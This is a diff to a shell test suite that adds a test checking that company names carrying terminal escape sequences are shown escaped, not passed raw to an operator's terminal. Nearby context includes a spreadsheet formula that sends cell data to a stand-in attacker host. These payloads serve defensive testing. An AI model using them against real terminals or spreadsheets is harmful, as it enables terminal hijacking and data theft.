@@ -844,6 +844,14 @@ test_hostile_tenant_folder_names_load_nothing() {
     assert_eq 1 "$(q "SELECT count(*) FROM pg_tables WHERE tablename = 'clicks'")"
 }
 
+test_hostile_names_cannot_drive_the_operators_terminal() {
+    q "INSERT INTO companies VALUES (7, E'Evil\\x1b]2;pwned\\x07\\x1b[2J Co \\\\x41 \\u0085.', NULL, now(), now())"
+    local out
+    out=$("$ADR" tenant --company 7)
+    assert_contains "$out" 'name             Evil\x1b]2;pwned\x07\x1b[2J Co \\x41 \xc2\x85.'
+    case "$out" in *$'\e'* | *$'\a'* | *$'\xc2\x85'*) fail "a control character reached the terminal" ;; esac
+}
+
 test_hostile_names_appear_escaped_in_reports() {
     local formula='=HYPERLINK("http://evil.example/?x="&A1,"click")'
     mkdir -p "$W/ent" "$W/in/1"
